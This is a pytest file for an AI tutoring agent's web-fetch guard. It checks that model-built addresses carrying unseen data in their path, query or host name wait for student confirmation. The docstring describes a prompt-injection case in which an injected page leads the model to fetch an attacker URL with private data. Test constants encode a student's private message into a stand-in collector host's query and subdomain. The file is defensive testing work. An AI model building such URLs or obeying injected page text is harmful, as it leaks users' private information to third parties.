"""web_fetch of an address the model built (a path or query found neither in the student's messages
nor in a search result of this turn) waits for the student, on a card showing the whole address.

The probe: an injected page could make an obedient model call
``web_fetch("https://attacker/?d=<private data>")``; a read tool ran with no confirmation.
"""

from __future__ import annotations

import json
import sys
import types

import pytest

from agent.tests.factories import last_of, make_conversation, reply, resume, route, run_turn, tool_call
from agent.tools import web_fetch
from agent.tools.web_fetch import Response, url_carries_unseen_data

pytestmark = [pytest.mark.django_db(transaction=True)]

EXFILTRATING = "https://collector.example.net/c?d=%E9%AB%98%E6%95%B0%E6%8C%82%E7%A7%91"
PAGE = Response(200, {"content-type": "text/html"}, b"<html><title>Exam</title><body>Finals 12-20</body></html>")


@pytest.fixture
def web(monkeypatch):
    fetched: list[str] = []

    def transport(url, address, *, timeout, max_bytes):
        fetched.append(url)
        return PAGE

    monkeypatch.setattr(web_fetch, "RESOLVER", lambda host, port: ["93.184.216.34"])
    monkeypatch.setattr(web_fetch, "TRANSPORT", transport)
    return fetched


@pytest.fixture
def search_results(settings):
    """A search provider that finds one exam page."""
    module = types.ModuleType("control_fake_search")
    module.search = lambda query, *, top_k, timeout: [  # type: ignore[attr-defined]
        {"title": "期末考试安排", "url": "https://jwc.example.edu/exams/2026?term=autumn", "snippet": "考试时间"}]
    sys.modules["control_fake_search"] = module
    settings.WEB_SEARCH_PROVIDER = "control_fake_search.search"
    yield
    del sys.modules["control_fake_search"]


@pytest.mark.parametrize("url, seen, unseen", [
    ("https://example.org", ["读一下 example.org"], False),  # a bare site the student named: nothing to carry
    ("https://example.org/", ["https://example.org/"], False),
    ("https://zh.wikipedia.org/", [], False),  # a well-known host, bare
    ("https://example.org/a?q=1", ["看看 https://example.org/a?q=1"], False),
    ("https://Example.org/a%20b/", ["读 example.org/a b"], False),  # case, encoding, trailing slash
    ("https://example.org/a?q=1", ["看看 https://example.org/a"], True),  # the query is new
    ("https://example.org/secret", ["https://example.org/"], True),
    (EXFILTRATING, ["我高数挂科了"], True),
])
def test_an_address_is_new_when_its_path_or_query_was_never_seen(url, seen, unseen):
    assert url_carries_unseen_data(url, seen) is unseen


# The probe (M2): the data went out through the host name of a bare address; only path and query were checked.
@pytest.mark.parametrize("url, seen, unseen", [
    ("https://gaoshu-guake.collector.example.net/", ["我高数挂科了"], True),
    ("https://collector.example.net", [], True),  # a host nobody typed: its name may be the data
    ("https://zh.wikipedia.org.collector.example.net/", [], True),  # a known name inside another host
    ("https://jwc.example.edu/", ["教务处网站是 jwc.example.edu"], False),
    ("https://JWC.example.edu./", ["jwc.example.edu"], False),  # case and the root dot
])
def test_a_host_name_nobody_typed_is_new(url, seen, unseen):
    assert url_carries_unseen_data(url, seen) is unseen


def test_the_known_hosts_come_from_the_settings(settings):
    settings.WEB_FETCH_KNOWN_HOSTS = ["docs.example.org"]
    assert url_carries_unseen_data("https://docs.example.org/", []) is False
    assert url_carries_unseen_data("https://zh.wikipedia.org/", []) is True


def test_a_data_bearing_host_waits_for_the_student_before_any_lookup(fake_llm, user, web, monkeypatch):
    looked_up: list[str] = []
    monkeypatch.setattr(web_fetch, "RESOLVER", lambda host, port: looked_up.append(host) or ["93.184.216.34"])
    conversation = make_conversation(user)
    url = "https://gaoshu-guake.collector.example.net/"
    fake_llm.script(route("execute"), tool_call("web_fetch", {"url": url}))

    frames = run_turn(user, conversation, "我高数挂科了，查一下补考", always_execute=True)

    assert last_of(frames, "confirm.request")["details"]["url"] == url
    assert looked_up == [] and web == []


def test_a_made_up_address_waits_for_the_student_with_the_whole_url_on_the_card(fake_llm, user, web):
    conversation = make_conversation(user)
    fake_llm.script(route("execute"), tool_call("web_fetch", {"url": EXFILTRATING}))

    frames = run_turn(user, conversation, "我高数挂科了，查一下补考", always_execute=True)

    card = last_of(frames, "confirm.request")
    assert frames[-1]["outcome"] == "interrupted" and web == []  # nothing left the server yet
    assert card["details"]["url"] == EXFILTRATING and EXFILTRATING in card["summary"]
    assert card["title"] == "Let the assistant open this address?"

    fake_llm.script(reply("不读了。"))
    declined = resume(user, conversation, card["interaction_id"], "reject")
    assert last_of(declined, "tool.result")["status"] == "blocked" and web == []


def test_an_accepted_address_is_read_once(fake_llm, user, web):
    conversation = make_conversation(user)
    fake_llm.script(route("execute"), tool_call("web_fetch", {"url": EXFILTRATING}))
    card = last_of(run_turn(user, conversation, "查一下补考"), "confirm.request")

    fake_llm.script(reply("读完了。"))
    frames = resume(user, conversation, card["interaction_id"], "accept")

    assert web == [EXFILTRATING]
    assert [f["type"] for f in frames if f["type"].startswith("tool.")] == ["tool.result"]  # no second tool.call
    assert last_of(frames, "tool.result")["status"] == "done"


def test_an_address_the_student_gave_is_read_at_once(fake_llm, user, web):
    url = "https://jwc.example.edu/notice?id=42"
    fake_llm.script(route("execute"), tool_call("web_fetch", {"url": url}), reply("通知说……"))

    frames = run_turn(user, make_conversation(user), f"帮我读一下 {url}")

    assert "confirm.request" not in [f["type"] for f in frames] and web == [url]


def test_an_address_from_this_turns_search_results_is_read_at_once(fake_llm, user, web, search_results):
    url = "https://jwc.example.edu/exams/2026?term=autumn"
    fake_llm.script(route("execute"), tool_call("web_search", {"query": "期末考试安排"}),
                    tool_call("web_fetch", {"url": url}), reply("考试安排是……"))

    frames = run_turn(user, make_conversation(user), "学校的期末考试安排出来了吗")

    assert "confirm.request" not in [f["type"] for f in frames] and web == [url]
    assert json.loads(fake_llm.requests[-1].messages[-1]["content"])["title"] == "Exam"


def test_one_turn_fetches_at_most_three_pages(fake_llm, user, web, settings):
    settings.WEB_FETCH_PER_TURN = 3
    url = "https://jwc.example.edu/notice?id=42"
    fake_llm.script(route("execute"), *[tool_call("web_fetch", {"url": url}) for _ in range(5)], reply("够了。"))

    frames = run_turn(user, make_conversation(user), f"帮我反复读 {url}")

    assert web == [url] * 3
    statuses = [f["status"] for f in frames if f["type"] == "tool.result"]
    assert statuses == ["done"] * 3 + ["failed"] * 2
